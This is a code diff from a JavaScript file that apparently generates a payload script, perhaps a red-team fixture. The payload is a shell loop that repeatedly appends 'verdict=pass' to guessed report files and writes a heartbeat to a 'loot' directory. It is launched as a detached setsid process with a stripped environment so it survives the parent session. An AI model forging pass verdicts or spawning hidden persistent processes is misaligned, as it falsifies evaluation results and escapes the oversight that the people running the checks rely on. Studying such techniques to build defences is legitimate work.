@@ -61,7 +61,7 @@ for (const reports of guessed.slice(0, 1).map((file) => path.resolve(file, '../.
   note('found', reports);
 });
 
-const forging = \`while :; do date +%s%N > '\${loot}/heartbeat'; for file in \${guessed.map((file) => "'" + file + "'").join(' ')}; do echo verdict=pass >> "$file"; done; sleep 0.05; done\`;
+const forging = \`while :; do date +%s%N >> '\${loot}/heartbeat'; for file in \${guessed.map((file) => "'" + file + "'").join(' ')}; do echo verdict=pass >> "$file"; done; sleep 0.05; done\`;
 attempt(() => spawn('setsid', ['env', '-i', '/bin/sh', '-c', 'PATH=/usr/bin:/bin; ' + forging], { detached: true, stdio: 'ignore' }).unref());
 
 for (const line of ${JSON.stringify(COMMANDS)}) {
